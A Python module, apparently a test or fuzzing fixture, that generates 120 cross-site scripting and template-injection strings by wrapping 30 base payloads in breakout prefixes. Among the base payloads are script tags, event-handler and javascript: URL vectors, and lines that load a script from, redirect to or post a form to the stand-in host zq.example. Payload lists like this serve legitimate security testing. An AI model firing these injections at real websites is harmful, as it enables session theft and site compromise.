"""120 strings that try to become markup, script, template code or a broken attribute."""

from __future__ import annotations

_TRIES = [
    "<script>zq(1)</script>", "<ScRiPt src=//zq.example></ScRiPt>", "<img src=x onerror=zq(1)>", "<svg onload=zq(1)>",
    "<svg><script>zq(1)</script></svg>", "<iframe src=javascript:zq(1)>", "<body onload=zq(1)>", "<a href=javascript:zq(1)>zq</a>",
    "<math><mi xlink:href=javascript:zq(1)>zq</mi></math>", "<input onfocus=zq(1) autofocus>", "<details open ontoggle=zq(1)>",
    "<video><source onerror=zq(1)></video>", "<object data=javascript:zq(1)>", "<embed src=javascript:zq(1)>", "<base href=//zq.example/>",
    "<meta http-equiv=refresh content=0;url=//zq.example>", "<link rel=stylesheet href=//zq.example>", "<style>*{zq:1}</style>",
    "<form action=//zq.example><button>zq</button></form>", "<template><script>zq(1)</script></template>", "{{7*7}}zq", "{% raw %}zq",
    "${7*7}zq", "#{7*7}zq", "<%= 7*7 %>zq", "%(zq)s", "{zq.__class__}", "&lt;script&gt;zq&lt;/script&gt;",
    "&#60;script&#62;zq", "\\u003cscript\\u003ezq",
]
_WRAPPERS = ["{}", "\"'>{}", "</textarea></title></script>{}", "'; --></option></select>{}"]
PAYLOADS = [wrapper.replace("{}", one) for wrapper in _WRAPPERS for one in _TRIES]


def portion(number: int, size: int = 3) -> str:
    """Some of the payloads side by side; portions 0 … 39 hold all of them."""
    start = number * size % len(PAYLOADS)
    return " ".join(PAYLOADS[start:start + size])
